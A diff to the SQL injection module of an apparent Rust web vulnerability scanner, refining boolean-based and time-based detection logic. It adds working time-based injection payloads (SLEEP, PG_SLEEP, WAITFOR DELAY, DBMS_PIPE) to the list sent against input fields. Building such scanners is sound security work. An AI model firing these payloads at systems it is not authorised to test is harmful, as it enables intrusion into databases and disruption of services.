@@ -11,7 +11,6 @@ use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
 use rampart_domain::{ModuleType, Severity};
 use regex::Regex;
 use std::sync::LazyLock;
-use std::time::Duration;
 
 pub(crate) const KEY: &str = "sqli";
 
@@ -72,6 +71,7 @@ static ERRORS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
 });
 
 fn db_error(text: &str) -> Option<(&'static str, String)> {
+    let text = &crate::similarity::unescape_html(text);
     ERRORS
         .iter()
         .find_map(|(n, re)| re.find(text).map(|m| (*n, m.as_str().to_string())))
@@ -195,7 +195,10 @@ async fn boolean_based(
         }
         let f = inject(ctx, r, p, &fv).await?;
         let ft = strip(&f.response.text(), &[&fv]);
-        if similarity(&base, &ft) > hi - 0.1 || similarity(&tt, &ft) > 0.9 {
+        // The false page must differ from the original clearly more than the page's own noise.
+        let t_sim = similarity(&base, &tt);
+        let margin = (3.0 * (1.0 - stable)).max(0.01);
+        if similarity(&base, &ft) > t_sim - margin && f.response.status == t.response.status {
             continue;
         }
         // Second, independent pair in the same context.
@@ -206,10 +209,11 @@ async fn boolean_based(
         let f2s = inject(ctx, r, p, &fv2).await?;
         let t2t = strip(&t2s.response.text(), &[&tv2]);
         let f2t = strip(&f2s.response.text(), &[&fv2]);
-        if similarity(&base, &t2t) >= hi
-            && similarity(&base, &f2t) <= hi - 0.1
-            && similarity(&ft, &f2t) > 0.8
-        {
+        let t2_sim = similarity(&base, &t2t);
+        let f2_differs = similarity(&base, &f2t) <= t2_sim - margin
+            || f2s.response.status != t2s.response.status;
+        // Both false pages look alike (the same "nothing found"), unlike the original.
+        if t2_sim >= hi && f2_differs && similarity(&ft, &f2t) > similarity(&base, &f2t) {
             ctx.report_point(r, Some(p), Hit {
                 module: KEY,
                 attack_id: "SQLI_02",
@@ -232,10 +236,13 @@ fn sleepers(p: &InsertionPoint, d: u64) -> Vec<String> {
     let mut v = Vec::new();
     if numeric {
         v.push(format!(" AND SLEEP({d})"));
+        v.push(format!(" OR (SELECT SLEEP({d}))=1"));
         v.push(format!(" AND 1=(SELECT 1 FROM PG_SLEEP({d}))"));
         v.push(format!(";WAITFOR DELAY '0:0:{d}'--"));
     }
     v.push(format!("' AND SLEEP({d})-- -"));
+    // An uncorrelated subquery runs once per statement, whether or not a row matches.
+    v.push(format!("' OR (SELECT SLEEP({d}))=1 OR 'a'='b"));
     v.push(format!("' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -"));
     v.push(format!("';WAITFOR DELAY '0:0:{d}'-- -"));
     v.push(format!("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('r',{d})-- -"));
@@ -248,75 +255,28 @@ async fn time_based(
     orig: &Sent,
     p: &InsertionPoint,
 ) -> Result<bool, SendError> {
-    let cap = ctx.http.plan().limits.max_time_probe.as_secs().max(2);
-    let (d1, d2) = ((cap / 2).max(1), cap);
-    let baseline = orig.response.elapsed;
-    let timeout = Duration::from_secs(d2 + 10);
-    let n = sleepers(p, d1).len();
-    for i in 0..n {
-        // Timing probes never run in parallel on one host.
-        let _guard = ctx.http.timing_guard(&r.url).await;
-        let v1 = after(p, &sleepers(p, d1)[i]);
-        let s1 = ctx
-            .http
-            .send_with_timeout(
-                r.with_value(p, &v1),
-                crate::client::Purpose::Attack,
-                Some(timeout),
-            )
-            .await?;
-        let t1 = s1.response.elapsed;
-        if t1 < Duration::from_secs(d1) + baseline / 2
-            || t1 > Duration::from_secs(d1 * 3) + baseline
-        {
+    for i in 0..sleepers(p, 1).len() {
+        let build = |d: u64| after(p, &sleepers(p, d)[i]);
+        let Some(t) = super::common::timed(ctx, r, p, build).await? else {
             continue;
-        }
-        // Linear in the delay, and back to normal without it: rules out jitter and "sleep × rows".
-        let v2 = after(p, &sleepers(p, d2)[i]);
-        let s2 = ctx
-            .http
-            .send_with_timeout(
-                r.with_value(p, &v2),
-                crate::client::Purpose::Attack,
-                Some(timeout),
-            )
-            .await?;
-        let t2 = s2.response.elapsed;
-        let v0 = after(p, &sleepers(p, 0)[i]);
-        let s0 = ctx
-            .http
-            .send_with_timeout(
-                r.with_value(p, &v0),
-                crate::client::Purpose::Attack,
-                Some(timeout),
-            )
-            .await?;
-        let t0 = s0.response.elapsed;
-        let grew = t2 >= Duration::from_secs(d2) && t2 < Duration::from_secs(d2 * 3) + baseline;
-        let quick = t0 < Duration::from_secs(d1);
-        if grew && quick && t2 > t1 {
-            ctx.report_point(
-                r,
-                Some(p),
-                Hit {
-                    module: KEY,
-                    attack_id: "SQLI_03",
-                    value: &v2,
-                    proof: format!(
-                        "delay {d1}s took {:.2}s, delay {d2}s took {:.2}s, delay 0 took {:.2}s",
-                        t1.as_secs_f64(),
-                        t2.as_secs_f64(),
-                        t0.as_secs_f64()
-                    ),
-                    proof_description: "the response time follows the requested database sleep",
-                    confidence: Confidence::Firm,
-                    original: Some(orig),
-                    attack: Some(&s2),
-                },
-            )
-            .await;
-            return Ok(true);
-        }
+        };
+        ctx.report_point(
+            r,
+            Some(p),
+            Hit {
+                module: KEY,
+                attack_id: "SQLI_03",
+                value: &t.value,
+                proof: t.proof,
+                proof_description:
+                    "the response time follows the requested database sleep, linearly",
+                confidence: Confidence::Firm,
+                original: Some(orig),
+                attack: Some(&t.sent),
+            },
+        )
+        .await;
+        return Ok(true);
     }
     Ok(false)
 }
